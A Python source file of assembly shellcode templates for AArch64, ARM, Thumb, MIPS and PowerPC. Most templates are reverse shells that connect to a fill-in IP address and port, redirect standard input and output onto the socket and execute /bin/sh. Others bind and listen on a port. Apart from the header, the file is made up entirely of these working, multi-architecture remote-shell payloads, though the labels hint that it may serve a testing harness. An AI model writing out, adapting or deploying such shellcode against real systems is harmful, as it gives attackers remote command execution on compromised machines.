# SPDX-License-Identifier: GPL-2.0-or-later
"""Shellcode of ARM, AArch64, MIPS and PowerPC, for GNU as."""

# name, language, kind, source
DESIGNS = [
    ('reverse', 'aarch64', 'connect', '''
    mov x8, #198
    mov x0, #2
    mov x1, #1
    mov x2, xzr
    svc #0
    mov x12, x0
    adr x1, where
    mov x2, #16
    mov x8, #203
    svc #0
    mov x19, #2
1:  mov x0, x12
    mov x1, x19
    mov x2, xzr
    mov x8, #24
    svc #0x1337
    subs x19, x19, #1
    b.pl 1b
    adr x0, shell
    stp x0, xzr, [sp, #-16]!
    mov x1, sp
    mov x2, xzr
    mov x8, #221
    svc #0
where: .word {PORT_IN}, {IP}, 0, 0
shell: .asciz "/bin/sh"
'''),
    ('bind', 'aarch64', 'listen', '''
    mov x8, #198
    mov x0, #2
    mov x1, #1
    mov x2, xzr
    svc #0
    mov x12, x0
    adr x1, where
    mov x2, #16
    mov x8, #200
    svc #0
    mov x0, x12
    mov x1, #1
    mov x8, #201
    svc #0
    mov x0, x12
    mov x1, xzr
    mov x2, xzr
    mov x8, #202
    svc #0
    mov x0, xzr
    mov x8, #93
    svc #0
where: .word {PORT_IN}, 0, 0, 0
'''),
    ('reverse', 'arm', 'connect', '''
    .syntax unified
    .arm
    mov r0, #2
    mov r1, #1
    mov r2, #0
    ldr r7, =281
    svc #0
    mov r6, r0
    adr r1, where
    mov r2, #16
    mov r7, #280
    add r7, r7, #3
    svc #0
    mov r4, #2
1:  mov r0, r6
    mov r1, r4
    mov r7, #63
    svc #0
    subs r4, r4, #1
    bpl 1b
    adr r0, shell
    mov r2, #0
    push {{r0, r2}}
    mov r1, sp
    mov r7, #11
    svc #0
where: .word {PORT_IN}, {IP}, 0, 0
shell: .asciz "/bin/sh"
    .align 2
    .ltorg
'''),
    ('reverse, in Thumb', 'arm', 'connect', '''
    .syntax unified
    .arm
    add r6, pc, #1
    bx r6
    .thumb
    movs r0, #2
    movs r1, #1
    subs r2, r2, r2
    movs r7, #200
    adds r7, #81
    svc #1
    mov r6, r0
    adr r1, where
    movs r2, #16
    adds r7, #2
    svc #1
    movs r4, #2
1:  mov r0, r6
    mov r1, r4
    movs r7, #63
    svc #1
    subs r4, #1
    bpl 1b
    adr r0, shell
    subs r2, r2, r2
    push {{r0, r2}}
    mov r1, sp
    movs r7, #11
    svc #1
    .align 2
where: .word {PORT_IN}, {IP}
shell: .asciz "/bin/sh"
'''),
    ('bind, in Thumb', 'arm', 'listen', '''
    .syntax unified
    .arm
    add r3, pc, #1
    bx r3
    .thumb
    movs r0, #2
    movs r1, #1
    subs r2, r2, r2
    movs r7, #200
    adds r7, #81
    svc #1
    mov r4, r0
    adr r1, where
    movs r2, #16
    adds r7, #1
    svc #1
    mov r0, r4
    movs r1, #2
    adds r7, #2
    svc #1
    mov r0, r4
    subs r1, r1, r1
    subs r2, r2, r2
    adds r7, #1
    svc #1
    movs r0, #0
    movs r7, #1
    svc #1
    .align 2
where: .word {PORT_IN}, 0, 0, 0
'''),
    ('reverse, OABI', 'arm', 'connect, no oracle', '''
    .syntax unified
    .arm
    mov r0, #2
    mov r1, #1
    mov r2, #0
    push {{r0, r1, r2}}
    mov r0, #1
    mov r1, sp
    svc #0x900066
    mov r6, r0
    adr r1, where
    mov r2, #16
    push {{r0, r1, r2}}
    mov r0, #3
    mov r1, sp
    svc #0x900066
    mov r0, #0
    svc #0x900001
where: .word {PORT_IN}, {IP}, 0, 0
'''),
]

MIPS = '''
    .set noreorder
    .set noat
    slti $a2, $zero, -1
1:  bltzal $a2, 1b
    slti $a2, $zero, -1
    addiu $s7, $ra, where - 1b - 8
    li $a0, {A}
    li $a1, {B}
    li $a2, 0
    li $v0, 4183
    syscall 0x40404
    move $s0, $v0
{CALLS}
    li $s1, 2
2:  move $a0, $s0
    move $a1, $s1
    li $v0, 4063
    syscall 0x40404
    bgtz $s1, 2b
    addiu $s1, $s1, -1
    addiu $a0, $s7, 16
    sw $a0, -8($sp)
    sw $zero, -4($sp)
    addiu $a1, $sp, -8
    li $a2, 0
    li $v0, 4011
    syscall 0x40404
where: {WHERE}
shell: .asciz "/bin/sh"
    .align 2
'''
CONNECT_MIPS = '''
    move $a0, $s0
    move $a1, $s7
    li $a2, 16
    li $v0, 4170
    syscall 0x40404
'''
# the address is written by halves and words that are not aligned, as many do
CONNECT_UNALIGNED = '''
    li $t0, 2
    sh $t0, -30($sp)
    ori $t1, $zero, {PORT_NET_MIPS}
    sh $t1, -28($sp)
    lui $t2, {IP_HIGH}
    ori $t2, $t2, {IP_LOW}
    sw $t2, -26($sp)
    addiu $a1, $sp, -30
    move $a0, $s0
    li $a2, 16
    li $v0, 4170
    syscall 0x40404
'''
LISTEN_MIPS = '''
    move $a0, $s0
    move $a1, $s7
    li $a2, 16
    li $v0, 4169
    syscall 0x40404
    move $a0, $s0
    li $a1, 1
    li $v0, 4174
    syscall 0x40404
    move $a0, $s0
    li $a1, 0
    li $a2, 0
    li $v0, 4168
    syscall 0x40404
    move $s0, $v0
'''
POWERPC = '''
    li 3, 2
    li 4, 1
    li 5, 0
    li 0, 326
    sc
    mr 31, 3
    bl 1f
1:  mflr 30
    addi 30, 30, where - 1b
    mr 4, 30
    li 5, 16
    li 0, {NUMBER}
    sc
{MORE}
    li 29, 2
2:  mr 3, 31
    mr 4, 29
    li 0, 63
    sc
    addic. 29, 29, -1
    bge 2b
    addi 3, 30, 16
    stwu 1, -32(1)
    stw 3, 8(1)
    li 5, 0
    stw 5, 12(1)
    addi 4, 1, 8
    li 0, 11
    sc
where: {WHERE}
shell: .asciz "/bin/sh"
    .align 2
'''
LISTEN_POWERPC = '''
    mr 3, 31
    li 4, 1
    li 0, 329
    sc
    mr 3, 31
    li 4, 0
    li 5, 0
    li 0, 330
    sc
    mr 31, 3
'''
